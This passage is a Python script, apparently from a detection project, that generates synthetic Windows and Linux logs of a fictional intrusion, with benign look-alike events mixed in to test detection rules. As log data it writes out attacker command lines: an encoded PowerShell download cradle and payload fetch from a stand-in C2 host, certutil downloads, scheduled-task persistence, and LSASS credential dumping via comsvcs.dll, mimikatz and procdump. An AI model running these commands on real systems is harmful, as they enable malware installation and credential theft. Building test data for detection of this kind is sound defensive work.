#!/usr/bin/env python3
"""Write the bundled sample logs in samples/ (run from the repository root).

The samples are the project's own invention: one night (2026-11-20, UTC) at a made-up company,
``corp.example``. Documentation address ranges only (RFC 5737) and example domains (RFC 2606).

    02:10  web-01 (198.51.100.80, Linux, DMZ)  routine cron, an admin logs in from 192.0.2.20
    02:31  web-01  SSH password guessing from 203.0.113.45, then a login as `deploy`
    02:35  web-01  sudo: new user `sysupdate`, added to group sudo, NOPASSWD line in /etc/sudoers,
                   a cron job that pipes a download into sh, a payload made executable in /tmp
    02:58  WS-FIN-07 (192.0.2.57, Windows 11)  an invoice macro starts encoded PowerShell,
                   which downloads a payload into C:\\Users\\Public, persists it (Run key,
                   scheduled task), looks for domain admins, dumps LSASS with comsvcs.dll
    03:14  SRV-DC-01 (192.0.2.10, domain controller)  failed logons from WS-FIN-07, then a remote
                   service, certutil download, a mimikatz-like tool, procdump of LSASS, ntdsutil
                   IFM, a new domain admin account, and the logs cleared

Windows events are written the way ``evtx_dump -o jsonl`` (and the ``evtx`` Python package)
render EVTX records: one ``{"Event": {"System": ..., "EventData": ...}}`` object per line.
Linux logs are a Debian auth.log and syslog (RFC 3164) and a raw auditd log.

The output is deterministic: running this again rewrites identical files.
"""

from __future__ import annotations

import base64
import hashlib
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent / "samples"
DAY = datetime(2026, 11, 20, tzinfo=UTC)

SYSMON = ("Microsoft-Windows-Sysmon", "5770385F-C22A-43E0-BF4C-06F5698FFBD9")
SECURITY = ("Microsoft-Windows-Security-Auditing", "54849625-5478-4994-A5BA-3E3B0328C30D")
POWERSHELL = ("Microsoft-Windows-PowerShell", "A0C1853B-5C40-4B15-8766-3CF1C58F985A")
SCM = ("Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}")
EVENTLOG = ("Microsoft-Windows-Eventlog", "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}")

WS = "WS-FIN-07.corp.example"
DC = "SRV-DC-01.corp.example"
WS_IP, DC_IP, JUMP_IP = "192.0.2.57", "192.0.2.10", "192.0.2.20"
ATTACKER_IP, C2_IP, C2_HOST = "203.0.113.45", "203.0.113.77", "cdn-update.example.net"
JDOE_SID = "S-1-5-21-3623811015-3361044348-30300820-1107"
DOMAIN_SID = "S-1-5-21-3623811015-3361044348-30300820"


def at(clock: str) -> datetime:
    """A time on the sample night: "03:02:19.412"."""
    hms, _, frac = clock.partition(".")
    h, m, s = (int(x) for x in hms.split(":"))
    micro = int((frac or "0").ljust(6, "0")[:6])
    return DAY + timedelta(hours=h, minutes=m, seconds=s, microseconds=micro)


def guid(*parts: object) -> str:
    """A stable Sysmon-style GUID derived from its parts."""
    h = hashlib.md5("|".join(map(str, parts)).encode()).hexdigest().upper()
    return "{" + f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:32]}" + "}"


def stable(text: str, modulo: int) -> int:
    """A small number derived from text, the same on every run (unlike hash())."""
    return int(hashlib.sha256(text.encode()).hexdigest()[:12], 16) % modulo


def hashes(image: str) -> str:
    digest = hashlib.sha256(image.lower().encode()).hexdigest().upper()
    md5 = hashlib.md5(image.lower().encode()).hexdigest().upper()
    return f"MD5={md5},SHA256={digest},IMPHASH={md5[::-1]}"


def encoded(script: str) -> str:
    """PowerShell -EncodedCommand form: base64 of UTF-16LE."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


class Channel:
    """One host's event log channel: numbers records and renders evtx_dump JSON lines."""

    def __init__(self, computer: str, channel: str, provider: tuple[str, str], first: int) -> None:
        self.computer, self.channel, self.provider = computer, channel, provider
        self.next_id = first
        self.events: list[tuple[datetime, dict[str, Any]]] = []

    def add(
        self,
        when: datetime,
        event_id: int,
        data: dict[str, Any] | None = None,
        *,
        user_data: dict[str, Any] | None = None,
        qualifiers: int | None = None,
        provider: tuple[str, str] | None = None,
        user_sid: str | None = "S-1-5-18",
        pid: int = 3208,
        task: int = 0,
    ) -> None:
        name, provider_guid = provider or self.provider
        provider_attrs: dict[str, Any] = {"Name": name, "Guid": provider_guid}
        if name == "Service Control Manager":
            provider_attrs["EventSourceName"] = name
        eid: Any = event_id
        if qualifiers is not None:
            eid = {"#attributes": {"Qualifiers": qualifiers}, "#text": event_id}
        system = {
            "Provider": {"#attributes": provider_attrs},
            "EventID": eid,
            "Version": self._version(event_id),
            "Level": 4,
            "Task": task,
            "Opcode": 0,
            "Keywords": "0x8000000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": when.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
            "EventRecordID": 0,  # numbered in time order by write()
            "Correlation": None,
            "Execution": {"#attributes": {"ProcessID": pid, "ThreadID": pid + 412}},
            "Channel": self.channel,
            "Computer": self.computer,
            "Security": {"#attributes": {"UserID": user_sid}} if user_sid else None,
        }
        event: dict[str, Any] = {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": system,
        }
        if user_data is not None:
            event["UserData"] = user_data
        else:
            event["EventData"] = data or {}
        self.events.append((when, {"Event": event}))

    def _version(self, event_id: int) -> int:
        """Event schema version, as Sysmon 15 writes it per event ID (0 for the other logs)."""
        if not self.channel.endswith("Sysmon/Operational"):
            return 0
        return {1: 5, 3: 5, 7: 3, 10: 3, 11: 2, 13: 2, 22: 5}.get(event_id, 0)

    def write(self, path: Path) -> int:
        path.parent.mkdir(parents=True, exist_ok=True)
        lines = []
        for number, (_, record) in enumerate(sorted(self.events, key=_by_time)):
            record["Event"]["System"]["EventRecordID"] = self.next_id + number
            lines.append(json.dumps(record, ensure_ascii=False))
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        return len(lines)


def _by_time(item: tuple[datetime, dict[str, Any]]) -> datetime:
    return item[0]


class Sysmon:
    """Sysmon events of one host, with processes remembered by image for parent fields."""

    def __init__(self, computer: str, first: int) -> None:
        self.log = Channel(computer, "Microsoft-Windows-Sysmon/Operational", SYSMON, first)
        self.computer = computer
        self.procs: dict[int, dict[str, Any]] = {}

    def _utc(self, when: datetime) -> str:
        return when.strftime("%Y-%m-%d %H:%M:%S.") + f"{when.microsecond // 1000:03d}"

    def process(
        self,
        clock: str,
        pid: int,
        image: str,
        command_line: str,
        parent: int,
        user: str,
        *,
        original: str | None = None,
        description: str = "",
        company: str = "Microsoft Corporation",
        integrity: str = "Medium",
        cwd: str = "C:\\Windows\\system32\\",
    ) -> None:
        when = at(clock)
        exe = image.rsplit("\\", 1)[-1]
        parent_proc = self.procs.get(parent, {"image": "-", "cmd": "-", "user": "-"})
        self.procs[pid] = {"image": image, "cmd": command_line, "user": user}
        self.log.add(
            when,
            1,
            {
                "RuleName": "-",
                "UtcTime": self._utc(when),
                "ProcessGuid": guid(self.computer, pid, image),
                "ProcessId": pid,
                "Image": image,
                "FileVersion": "10.0.22621.4541 (WinBuild.160101.0800)" if company else "-",
                "Description": description or exe,
                "Product": "Microsoft® Windows® Operating System" if company else "-",
                "Company": company or "-",
                "OriginalFileName": original if original is not None else exe,
                "CommandLine": command_line,
                "CurrentDirectory": cwd,
                "User": user,
                "LogonGuid": guid(self.computer, "logon", user),
                "LogonId": "0x3e7" if user == "NT AUTHORITY\\SYSTEM" else "0x6f1c2d",
                "TerminalSessionId": 0 if user.startswith("NT AUTHORITY") else 1,
                "IntegrityLevel": integrity,
                "Hashes": hashes(image),
                "ParentProcessGuid": guid(self.computer, parent, parent_proc["image"]),
                "ParentProcessId": parent,
                "ParentImage": parent_proc["image"],
                "ParentCommandLine": parent_proc["cmd"],
                "ParentUser": parent_proc["user"],
            },
            task=1,
        )

    def _base(self, when: datetime, pid: int) -> dict[str, Any]:
        proc = self.procs[pid]
        return {
            "RuleName": "-",
            "UtcTime": self._utc(when),
            "ProcessGuid": guid(self.computer, pid, proc["image"]),
            "ProcessId": pid,
            "Image": proc["image"],
        }

    def network(self, clock: str, pid: int, src: str, dst: str, port: int, host: str) -> None:
        when = at(clock)
        data = self._base(when, pid)
        data.update(
            {
                "User": self.procs[pid]["user"],
                "Protocol": "tcp",
                "Initiated": True,
                "SourceIsIpv6": False,
                "SourceIp": src,
                "SourceHostname": self.computer,
                "SourcePort": 49000 + (pid * 7 + port) % 16000,
                "SourcePortName": "-",
                "DestinationIsIpv6": False,
                "DestinationIp": dst,
                "DestinationHostname": host,
                "DestinationPort": port,
                "DestinationPortName": {80: "http", 443: "https", 445: "microsoft-ds"}.get(
                    port, "-"
                ),
            }
        )
        self.log.add(when, 3, data, task=3)

    def image_load(self, clock: str, pid: int, dll: str, description: str) -> None:
        when = at(clock)
        data = self._base(when, pid)
        data.update(
            {
                "ImageLoaded": dll,
                "FileVersion": "10.0.22621.4541 (WinBuild.160101.0800)",
                "Description": description,
                "Product": "Microsoft® Windows® Operating System",
                "Company": "Microsoft Corporation",
                "OriginalFileName": dll.rsplit("\\", 1)[-1],
                "Hashes": hashes(dll),
                "Signed": True,
                "Signature": "Microsoft Windows",
                "SignatureStatus": "Valid",
                "User": self.procs[pid]["user"],
            }
        )
        self.log.add(when, 7, data, task=7)

    def access(self, clock: str, pid: int, target: int, access: str, trace: str) -> None:
        when = at(clock)
        src, dst = self.procs[pid], self.procs[target]
        self.log.add(
            when,
            10,
            {
                "RuleName": "-",
                "UtcTime": self._utc(when),
                "SourceProcessGUID": guid(self.computer, pid, src["image"]),
                "SourceProcessId": pid,
                "SourceThreadId": pid + 96,
                "SourceImage": src["image"],
                "TargetProcessGUID": guid(self.computer, target, dst["image"]),
                "TargetProcessId": target,
                "TargetImage": dst["image"],
                "GrantedAccess": access,
                "CallTrace": trace,
                "SourceUser": src["user"],
                "TargetUser": dst["user"],
            },
            task=10,
        )

    def file(self, clock: str, pid: int, target: str) -> None:
        when = at(clock)
        data = self._base(when, pid)
        data.update(
            {
                "TargetFilename": target,
                "CreationUtcTime": self._utc(when),
                "User": self.procs[pid]["user"],
            }
        )
        self.log.add(when, 11, data, task=11)

    def registry(self, clock: str, pid: int, key: str, details: str) -> None:
        when = at(clock)
        data = self._base(when, pid)
        data = {"RuleName": "-", "EventType": "SetValue", **{k: data[k] for k in list(data)[1:]}}
        data.update({"TargetObject": key, "Details": details, "User": self.procs[pid]["user"]})
        self.log.add(when, 13, data, task=13)

    def dns(self, clock: str, pid: int, name: str, result: str) -> None:
        when = at(clock)
        data = self._base(when, pid)
        image = data.pop("Image")
        data.update(
            {
                "QueryName": name,
                "QueryStatus": "0",
                "QueryResults": f"::ffff:{result};",
                "Image": image,
                "User": self.procs[pid]["user"],
            }
        )
        self.log.add(when, 22, data, task=22)


SYS32 = "C:\\Windows\\System32\\"
JDOE = "CORP\\jdoe"
SYSTEM = "NT AUTHORITY\\SYSTEM"
LSASS_TRACE_DUMP = (
    "C:\\Windows\\SYSTEM32\\ntdll.dll+9f8a4|C:\\Windows\\System32\\KERNELBASE.dll+2b2ce|"
    "C:\\Windows\\System32\\dbgcore.DLL+6ecd|C:\\Windows\\System32\\dbgcore.DLL+1b230|"
    "C:\\Windows\\System32\\comsvcs.dll+42c3b|C:\\Windows\\System32\\rundll32.exe+3bd4|"
    "C:\\Windows\\System32\\KERNEL32.DLL+17614|C:\\Windows\\SYSTEM32\\ntdll.dll+526f1"
)
LSASS_TRACE_TOOL = (
    "C:\\Windows\\SYSTEM32\\ntdll.dll+9f8a4|C:\\Windows\\System32\\KERNELBASE.dll+2b2ce|"
    "C:\\Windows\\Temp\\svchelper.exe+4c1d2|C:\\Windows\\Temp\\svchelper.exe+4bf07|"
    "C:\\Windows\\System32\\KERNEL32.DLL+17614|C:\\Windows\\SYSTEM32\\ntdll.dll+526f1"
)
LSASS_TRACE_PROCDUMP = (
    "C:\\Windows\\SYSTEM32\\ntdll.dll+9f8a4|C:\\Windows\\System32\\KERNELBASE.dll+2b2ce|"
    "C:\\Windows\\System32\\dbghelp.dll+1f0b4|C:\\Windows\\Temp\\pd64.exe+3a1c0|"
    "C:\\Windows\\System32\\KERNEL32.DLL+17614|C:\\Windows\\SYSTEM32\\ntdll.dll+526f1"
)
BENIGN_TRACE = (
    "C:\\Windows\\SYSTEM32\\ntdll.dll+9f8a4|C:\\Windows\\System32\\KERNELBASE.dll+3c4be|"
    "C:\\Windows\\system32\\svchost.exe+41a2|C:\\Windows\\SYSTEM32\\ntdll.dll+526f1"
)


def workstation() -> tuple[Channel, Channel]:
    """WS-FIN-07: phishing macro, encoded PowerShell, persistence, LSASS dump via comsvcs."""
    s = Sysmon(WS, 48211)
    ps = Channel(WS, "Microsoft-Windows-PowerShell/Operational", POWERSHELL, 9120)
    # Processes that exist before the window opens (their creation is not in the sample).
    s.procs[4] = {"image": "System", "cmd": "-", "user": SYSTEM}
    s.procs[712] = {"image": SYS32 + "lsass.exe", "cmd": SYS32 + "lsass.exe", "user": SYSTEM}
    s.procs[688] = {"image": SYS32 + "services.exe", "cmd": SYS32 + "services.exe", "user": SYSTEM}
    s.procs[1240] = {
        "image": SYS32 + "svchost.exe",
        "cmd": SYS32 + "svchost.exe -k netsvcs -p",
        "user": SYSTEM,
    }
    s.procs[5208] = {
        "image": "C:\\Windows\\explorer.exe",
        "cmd": "C:\\Windows\\Explorer.EXE",
        "user": JDOE,
    }
    office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
    edge = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"

    # --- benign noise
    s.process(
        "02:58:03.114",
        6120,
        office + "OUTLOOK.EXE",
        f'"{office}OUTLOOK.EXE" /recycle',
        5208,
        JDOE,
        original="Outlook.exe",
        description="Microsoft Outlook",
    )
    s.network("02:58:05.870", 6120, WS_IP, "198.51.100.25", 443, "mail.example.com")
    s.process(
        "02:58:41.502",
        7004,
        edge,
        f'"{edge}" --single-argument https://intranet.corp.example/finance',
        5208,
        JDOE,
        original="msedge.exe",
        description="Microsoft Edge",
    )
    s.dns("02:58:41.977", 7004, "intranet.corp.example", "192.0.2.30")
    s.network("02:58:42.013", 7004, WS_IP, "192.0.2.30", 443, "intranet.corp.example")
    s.process(
        "02:59:10.333",
        7412,
        SYS32 + "taskhostw.exe",
        "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
        1240,
        SYSTEM,
        original="taskhostw.exe",
        description="Host Process for Windows Tasks",
        integrity="System",
    )
    s.access("02:59:12.871", 1240, 712, "0x1000", BENIGN_TRACE)
    s.process(
        "03:00:00.215",
        7530,
        SYS32 + "SearchProtocolHost.exe",
        '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe1',
        1240,
        SYSTEM,
        original="searchprotocolhost.exe",
        description="Microsoft Windows Search Protocol Host",
        integrity="System",
    )
    s.registry(
        "03:00:01.006",
        5208,
        f"HKU\\{JDOE_SID}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive",
        '"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background',
    )
    s.process(
        "03:01:12.640",
        7688,
        SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File "
        "\\\\corp.example\\NETLOGON\\inventory.ps1",
        1240,
        SYSTEM,
        original="PowerShell.EXE",
        description="Windows PowerShell",
        integrity="System",
    )
    s.network("03:01:13.200", 7688, WS_IP, DC_IP, 445, "SRV-DC-01.corp.example")
    ps.add(
        at("03:01:13.514"),
        4104,
        {
            "MessageNumber": 1,
            "MessageTotal": 1,
            "ScriptBlockText": "Get-CimInstance Win32_OperatingSystem | Select-Object Caption,"
            " Version | Export-Csv \\\\corp.example\\inventory$\\$env:COMPUTERNAME.csv",
            "ScriptBlockId": guid("sb", 1)[1:-1].lower(),
            "Path": "\\\\corp.example\\NETLOGON\\inventory.ps1",
        },
        pid=7688,
        task=2,
    )

    # Look-alikes that the rules must leave alone: Edge's updater calling out from Program Files,
    # a vendor's updater registering a task, a login script's plain whoami, and a script block
    # that downloads a report without running anything.
    edge_update = "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe"
    s.process(
        "03:01:30.118",
        7702,
        edge_update,
        f'"{edge_update}" /ua /installsource scheduler',
        1240,
        SYSTEM,
        original="msedgeupdate.dll",
        description="Microsoft Edge Update",
        integrity="System",
    )
    s.network("03:01:31.540", 7702, WS_IP, "198.51.100.14", 443, "msedge.update.example.com")
    s.process(
        "03:01:40.002",
        7720,
        SYS32 + "schtasks.exe",
        'schtasks.exe /create /tn "Contoso\\AgentUpdate" /sc daily /st 12:30 '
        '/tr "\\"C:\\Program Files\\Contoso\\Agent\\updater.exe\\" --quiet" /ru SYSTEM /f',
        1240,
        SYSTEM,
        original="schtasks.exe",
        description="Task Scheduler Configuration Tool",
        integrity="System",
    )
    s.process(
        "03:01:52.610",
        7740,
        SYS32 + "whoami.exe",
        "whoami.exe",
        5208,
        JDOE,
        original="whoami.exe",
        description="whoami - displays logged on user",
    )
    ps.add(
        at("03:01:55.902"),
        4104,
        {
            "MessageNumber": 1,
            "MessageTotal": 1,
            "ScriptBlockText": "Invoke-WebRequest -Uri https://intranet.corp.example/fx/rates.csv"
            " -OutFile $env:USERPROFILE\\Documents\\rates.csv -UseDefaultCredentials",
            "ScriptBlockId": guid("sb", 4)[1:-1].lower(),
            "Path": "C:\\Users\\jdoe\\Documents\\get-rates.ps1",
        },
        user_sid=JDOE_SID,
        pid=7688,
        task=2,
    )

    # --- initial access: the invoice macro starts encoded PowerShell
    s.process(
        "03:02:11.090",
        7820,
        office + "WINWORD.EXE",
        f'"{office}WINWORD.EXE" /n "C:\\Users\\jdoe\\Downloads\\Invoice_2026-1184.docm" /o ""',
        6120,
        JDOE,
        original="WinWord.exe",
        description="Microsoft Word",
    )
    cradle = (
        "$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');"
        f"IEX $w.DownloadString('http://{C2_HOST}/a.ps1')"
    )
    s.process(
        "03:02:19.412",
        8012,
        SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
        f'"powershell.exe" -nop -w hidden -enc {encoded(cradle)}',
        7820,
        JDOE,
        original="PowerShell.EXE",
        description="Windows PowerShell",
        cwd="C:\\Users\\jdoe\\Documents\\",
    )
    s.dns("03:02:20.031", 8012, C2_HOST, C2_IP)
    s.network("03:02:20.115", 8012, WS_IP, C2_IP, 80, C2_HOST)
    ps.add(
        at("03:02:20.611"),
        4104,
        {
            "MessageNumber": 1,
            "MessageTotal": 1,
            "ScriptBlockText": cradle,
            "ScriptBlockId": guid("sb", 2)[1:-1].lower(),
            "Path": "",
        },
        user_sid=JDOE_SID,
        pid=8012,
        task=2,
    )
    stage2 = (
        '$p="$env:PUBLIC\\Libraries\\msedgeupd.exe";'
        f"(New-Object Net.WebClient).DownloadFile('http://{C2_HOST}/u.bin',$p);"
        "Start-Process $p -WindowStyle Hidden"
    )
    ps.add(
        at("03:02:21.380"),
        4104,
        {
            "MessageNumber": 1,
            "MessageTotal": 1,
            "ScriptBlockText": stage2,
            "ScriptBlockId": guid("sb", 3)[1:-1].lower(),
            "Path": "",
        },
        user_sid=JDOE_SID,
        pid=8012,
        task=2,
    )
    s.network("03:02:23.004", 8012, WS_IP, C2_IP, 80, C2_HOST)
    implant = "C:\\Users\\Public\\Libraries\\msedgeupd.exe"
    s.file("03:02:24.560", 8012, implant)
    s.process(
        "03:02:25.118",
        8144,
        implant,
        f'"{implant}"',
        8012,
        JDOE,
        original="",
        description="Microsoft Edge Update",
        company="",
        cwd="C:\\Users\\jdoe\\Documents\\",
    )
    s.network("03:02:26.733", 8144, WS_IP, C2_IP, 443, C2_HOST)

    # --- persistence: Run key and scheduled task
    s.process(
        "03:03:05.270",
        8260,
        SYS32 + "reg.exe",
        'reg.exe add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v EdgeUpdate '
        f'/t REG_SZ /d "{implant}" /f',
        8144,
        JDOE,
        original="reg.exe",
        description="Registry Console Tool",
    )
    s.registry(
        "03:03:05.301",
        8260,
        f"HKU\\{JDOE_SID}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\EdgeUpdate",
        implant,
    )
    task_cmd = encoded(f"Start-Process '{implant}'")
    s.process(
        "03:03:31.845",
        8302,
        SYS32 + "schtasks.exe",
        'schtasks.exe /create /tn "Microsoft\\Windows\\EdgeUpdate\\Check" /sc onlogon /rl highest'
        f' /tr "powershell.exe -w hidden -enc {task_cmd}" /f',
        8144,
        JDOE,
        original="schtasks.exe",
        description="Task Scheduler Configuration Tool",
        integrity="High",
    )

    # --- discovery
    for clock, pid, exe, cmd, desc in (
        ("03:04:10.002", 8350, "whoami.exe", "whoami.exe /all", "whoami - displays logged on user"),
        (
            "03:04:18.717",
            8366,
            "net.exe",
            'net.exe group "Domain Admins" /domain',
            "Net Command",
        ),
        ("03:04:27.390", 8390, "nltest.exe", "nltest.exe /dclist:corp.example", "Logon Server"),
    ):
        s.process(clock, pid, SYS32 + exe, cmd, 8144, JDOE, original=exe, description=desc)
    s.network("03:04:27.612", 8390, WS_IP, DC_IP, 389, "SRV-DC-01.corp.example")

    # --- credential access: comsvcs.dll MiniDump of LSASS
    s.process(
        "03:08:09.504",
        8412,
        SYS32 + "cmd.exe",
        'cmd.exe /c "tasklist /fi "imagename eq lsass.exe""',
        8144,
        JDOE,
        original="Cmd.Exe",
        description="Windows Command Processor",
        integrity="High",
    )
    s.process(
        "03:08:12.930",
        8436,
        SYS32 + "rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 "
        "C:\\Users\\Public\\Libraries\\d.bin full",
        8144,
        JDOE,
        original="RUNDLL32.EXE",
        description="Windows host process (Rundll32)",
        integrity="High",
    )
    s.image_load("03:08:12.962", 8436, SYS32 + "comsvcs.dll", "COM+ Services")
    s.image_load("03:08:12.988", 8436, SYS32 + "dbgcore.dll", "Windows Core Debugging Helpers")
    s.access("03:08:13.117", 8436, 712, "0x1fffff", LSASS_TRACE_DUMP)
    s.file("03:08:14.650", 8436, "C:\\Users\\Public\\Libraries\\d.bin")
    s.network("03:09:40.201", 8144, WS_IP, C2_IP, 443, C2_HOST)
    s.network("03:14:02.554", 8144, WS_IP, DC_IP, 445, "SRV-DC-01.corp.example")
    return s.log, ps


def domain_controller() -> tuple[Channel, Channel, Channel]:
    """SRV-DC-01: remote service, tools, LSASS and NTDS theft, new domain admin, logs cleared."""
    s = Sysmon(DC, 201334)
    sec = Channel(DC, "Security", SECURITY, 1877420)
    sysl = Channel(DC, "System", SCM, 40217)
    s.procs[704] = {"image": SYS32 + "lsass.exe", "cmd": SYS32 + "lsass.exe", "user": SYSTEM}
    s.procs[688] = {"image": SYS32 + "services.exe", "cmd": SYS32 + "services.exe", "user": SYSTEM}
    s.procs[1300] = {
        "image": SYS32 + "svchost.exe",
        "cmd": SYS32 + "svchost.exe -k netsvcs -p",
        "user": SYSTEM,
    }
    s.procs[2410] = {
        "image": "C:\\Program Files\\Windows Defender\\MsMpEng.exe",
        "cmd": '"C:\\Program Files\\Windows Defender\\MsMpEng.exe"',
        "user": SYSTEM,
    }

    def logon(clock: str, user: str, logon_type: int, ip: str, package: str = "Kerberos") -> None:
        sec.add(
            at(clock),
            4624,
            {
                "SubjectUserSid": "S-1-0-0",
                "SubjectUserName": "-",
                "SubjectDomainName": "-",
                "SubjectLogonId": "0x0",
                "TargetUserSid": f"{DOMAIN_SID}-{1000 + len(user)}",
                "TargetUserName": user,
                "TargetDomainName": "CORP",
                "TargetLogonId": f"0x{stable(clock, 0xFFFFFF):x}",
                "LogonType": logon_type,
                "LogonProcessName": "Kerberos" if package == "Kerberos" else "NtLmSsp ",
                "AuthenticationPackageName": package,
                "WorkstationName": "-",
                "LogonGuid": guid("logon", clock),
                "TransmittedServices": "-",
                "LmPackageName": "-" if package == "Kerberos" else "NTLM V2",
                "KeyLength": 0,
                "ProcessId": "0x0",
                "ProcessName": "-",
                "IpAddress": ip,
                "IpPort": "0",
                "ImpersonationLevel": "%%1833",
                "ElevatedToken": "%%1842",
            },
            pid=704,
            task=12544,
            user_sid=None,
        )

    def failure(clock: str, user: str, sub_status: str) -> None:
        sec.add(
            at(clock),
            4625,
            {
                "SubjectUserSid": "S-1-0-0",
                "SubjectUserName": "-",
                "SubjectDomainName": "-",
                "SubjectLogonId": "0x0",
                "TargetUserSid": "S-1-0-0",
                "TargetUserName": user,
                "TargetDomainName": "CORP",
                "Status": "0xc000006d",
                "FailureReason": "%%2313",
                "SubStatus": sub_status,
                "LogonType": 3,
                "LogonProcessName": "NtLmSsp ",
                "AuthenticationPackageName": "NTLM",
                "WorkstationName": "WS-FIN-07",
                "TransmittedServices": "-",
                "LmPackageName": "-",
                "KeyLength": 0,
                "ProcessId": "0x0",
                "ProcessName": "-",
                "IpAddress": WS_IP,
                "IpPort": str(50000 + int(clock[-3:])),
            },
            pid=704,
            task=12544,
            user_sid=None,
        )

    # --- benign noise
    logon("03:00:02.118", "SRV-FILE-02$", 3, "192.0.2.12")
    logon("03:03:40.500", "svc_backup", 3, "192.0.2.40")
    s.process(
        "03:05:00.071",
        5120,
        SYS32 + "gpupdate.exe",
        "gpupdate.exe /target:computer",
        1300,
        SYSTEM,
        original="GPUpdate.exe",
        description="Microsoft® Windows Group Policy Update Utility",
        integrity="System",
    )
    s.access("03:05:00.640", 2410, 704, "0x1000", BENIGN_TRACE)
    defender = (
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25100.9008-0\\MsMpEng.exe"
    )
    s.procs[2480] = {"image": defender, "cmd": f'"{defender}"', "user": SYSTEM}
    s.access("03:05:12.330", 2480, 704, "0x1010", BENIGN_TRACE)
    s.process(
        "03:07:44.515",
        5170,
        SYS32 + "certutil.exe",
        "certutil.exe -hashfile C:\\Install\\SQL2022-KB5046861-x64.exe SHA256",
        1300,
        "CORP\\adm-mlopez",
        original="CertUtil.exe",
        description="CertUtil.exe",
        integrity="High",
    )
    sysl.add(
        at("03:06:30.001"),
        7036,
        {"param1": "Windows Modules Installer", "param2": "running", "Binary": "540072007500"},
        qualifiers=16384,
        pid=688,
        user_sid=None,
    )
    logon("03:10:12.904", "WS-FIN-07$", 3, WS_IP)

    def service_ticket(clock: str, user: str, service: str, encryption: str) -> None:
        sec.add(
            at(clock),
            4769,
            {
                "TargetUserName": user,
                "TargetDomainName": "CORP.EXAMPLE",
                "ServiceName": service,
                "ServiceSid": f"{DOMAIN_SID}-{1100 + stable(service, 90)}",
                "TicketOptions": "0x40810000",
                "TicketEncryptionType": encryption,
                "IpAddress": f"::ffff:{WS_IP}",
                "IpPort": str(50000 + stable(clock, 9000)),
                "Status": "0x0",
                "LogonGuid": guid("tgs", clock),
                "TransmittedServices": "-",
            },
            pid=704,
            task=14337,
            user_sid=None,
        )

    # Routine: the workstation's own service ticket (AES). Then Kerberoasting: jdoe's session
    # asks for an RC4 ticket of the SQL service account, to crack its password offline.
    service_ticket("03:10:13.051", "WS-FIN-07$@CORP.EXAMPLE", "SRV-DC-01$", "0x12")
    service_ticket("03:11:02.774", "jdoe@CORP.EXAMPLE", "svc_sql", "0x17")

    # --- password guessing from WS-FIN-07 with names read from the dump, then success
    for i, (user, sub) in enumerate(
        [
            ("administrator", "0xc000006a"),
            ("svc_backup", "0xc000006a"),
            ("adm-jdoe", "0xc0000064"),
            ("svc_sql", "0xc000006a"),
            ("adm-mlopez", "0xc000006a"),
        ]
    ):
        failure(f"03:14:{10 + i * 3:02d}.{200 + i * 37:03d}", user, sub)
    logon("03:15:02.311", "adm-mlopez", 3, WS_IP, package="NTLM")

    # --- remote service runs a batch file that fetches and starts the tool
    sysl.add(
        at("03:16:40.782"),
        7045,
        {
            "ServiceName": "UpdSvc4821",
            "ImagePath": "%COMSPEC% /Q /c C:\\Windows\\Temp\\u4821.bat",
            "ServiceType": "user mode service",
            "StartType": "demand start",
            "AccountName": "LocalSystem",
        },
        qualifiers=16384,
        pid=688,
        user_sid=f"{DOMAIN_SID}-1112",
    )
    s.process(
        "03:16:41.020",
        6004,
        SYS32 + "cmd.exe",
        "C:\\Windows\\system32\\cmd.exe /Q /c C:\\Windows\\Temp\\u4821.bat",
        688,
        SYSTEM,
        original="Cmd.Exe",
        description="Windows Command Processor",
        integrity="System",
    )
    s.process(
        "03:16:41.377",
        6040,
        SYS32 + "certutil.exe",
        f"certutil.exe -urlcache -split -f http://{C2_HOST}/svchelper.exe "
        "C:\\Windows\\Temp\\svchelper.exe",
        6004,
        SYSTEM,
        original="CertUtil.exe",
        description="CertUtil.exe",
        integrity="System",
    )
    s.network("03:16:41.902", 6040, DC_IP, C2_IP, 80, C2_HOST)
    s.file("03:16:42.655", 6040, "C:\\Windows\\Temp\\svchelper.exe")

    # --- a mimikatz-like tool, then procdump of LSASS
    s.process(
        "03:17:05.144",
        6112,
        "C:\\Windows\\Temp\\svchelper.exe",
        'svchelper.exe "privilege::debug" "sekurlsa::logonpasswords" "exit"',
        6004,
        SYSTEM,
        original="mimikatz.exe",
        description="mimikatz for Windows",
        company="gentilkiwi (Benjamin DELPY)",
        integrity="System",
        cwd="C:\\Windows\\Temp\\",
    )
    s.access("03:17:05.602", 6112, 704, "0x1010", LSASS_TRACE_TOOL)
    s.process(
        "03:19:22.480",
        6230,
        "C:\\Windows\\Temp\\pd64.exe",
        "pd64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass_1120.dmp",
        6004,
        SYSTEM,
        original="procdump",
        description="Sysinternals process dump utility",
        company="Sysinternals",
        integrity="System",
        cwd="C:\\Windows\\Temp\\",
    )
    s.access("03:19:22.911", 6230, 704, "0x1fffff", LSASS_TRACE_PROCDUMP)
